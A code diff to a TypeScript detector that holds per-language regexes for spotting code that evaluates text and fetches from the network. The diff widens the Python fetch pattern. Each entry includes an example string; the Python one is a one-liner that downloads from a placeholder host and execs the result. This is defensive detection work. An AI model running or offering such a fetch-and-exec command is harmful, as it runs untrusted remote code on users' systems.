@@ -69,7 +69,11 @@ export const CODE_APIS: Record<string, { read: RegExp; write: RegExp; delete: Re
   },
 };
 
-/** Per language: code that evaluates text (eval, exec, Function) and calls that fetch from the network; both together run downloaded code. */
+/**
+ * Per language: code that evaluates text (eval, exec, Function) and calls that fetch from the
+ * network; both together run downloaded code. With `fetches` alone the code sends to the hosts of
+ * its URL literals.
+ */
 export const CODE_EVAL: Record<string, { evaluates: RegExp; fetches: RegExp; example: string }> = {
   php: {
     evaluates: /\beval\s*\(|\bassert\s*\(|\bcreate_function\s*\(/,
@@ -78,7 +82,7 @@ export const CODE_EVAL: Record<string, { evaluates: RegExp; fetches: RegExp; exa
   },
   python: {
     evaluates: /\b(?:exec|eval)\s*\(|compile\s*\(/,
-    fetches: /urlopen|requests\.(?:get|post)|httpx\.|urllib\.request|http\.client/,
+    fetches: /urlopen|requests\.(?:get|post|put|patch|delete|request|Session)|httpx\.|urllib\.request|http\.client|aiohttp/,
     example: `python3 -c "import urllib.request as u; exec(u.urlopen('https://x.example.com/p').read())"`,
   },
   js: {
